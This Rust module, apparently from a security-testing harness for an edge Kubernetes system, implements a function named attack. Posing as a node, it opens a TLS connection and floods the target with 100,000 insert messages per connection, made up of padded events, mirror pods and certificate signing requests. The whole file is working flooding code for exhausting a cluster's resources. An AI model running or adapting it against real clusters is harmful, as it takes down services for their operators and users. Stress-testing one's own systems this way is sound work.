//! A node that makes objects as fast as they are taken: events, mirror pods, signing requests.

use std::sync::Arc;

use anyhow::Result;
use rustls::ClientConfig;
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;

use super::raw::{self, End, TEXT, frame};

/// Objects of one connection.
const OBJECTS: u64 = 100_000;

pub(super) async fn attack(config: &Arc<ClientConfig>, target: &str, node: &str) -> Result<()> {
    let mut stream = raw::tls(config, target).await?;
    raw::upgrade(&mut stream, node, None).await?;
    let (mut answers, mut asks) = tokio::io::split(stream);
    let made = async {
        let start = daemon::clock::unix_ms();
        for number in 0..OBJECTS {
            let message = message(node, &format!("{node}-{start}-{number}"), number);
            asks.write_all(&frame(End::Client, TEXT, message.to_string().as_bytes())).await?;
            asks.flush().await?;
        }
        anyhow::Ok(())
    };
    tokio::select! {
        done = made => done,
        () = raw::until_closed(&mut answers) => Ok(()),
    }
}

/// What a node may make, each with a name of its own.
fn message(node: &str, name: &str, number: u64) -> Value {
    let (group, kind, object) = match number % 4 {
        0 | 1 => ("resource", "event", event(node, name)),
        2 => ("meta", "pod", mirror(node, name)),
        _ => ("meta", "certificatesigningrequest", request(name)),
    };
    json!({"header": {"msg_id": name, "timestamp": 1},
        "route": {"source": "edged", "group": group, "operation": "insert", "resource": format!("default/{kind}/{name}")},
        "content": object})
}

fn event(node: &str, name: &str) -> Value {
    json!({"metadata": {"name": name, "namespace": "default"},
        "involvedObject": {"kind": "Node", "name": node}, "source": {"component": "kubelet", "host": node},
        "reason": "Attack", "message": "x".repeat(1000), "type": "Warning", "count": 1})
}

fn mirror(node: &str, name: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": name, "namespace": "default", "annotations": {"kubernetes.io/config.mirror": "a"}},
        "spec": {"nodeName": node, "containers": [{"name": "c", "image": "none"}]}})
}

fn request(name: &str) -> Value {
    json!({"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": name},
        "spec": {"request": "", "signerName": "kubernetes.io/kubelet-serving", "usages": ["server auth"]}})
}
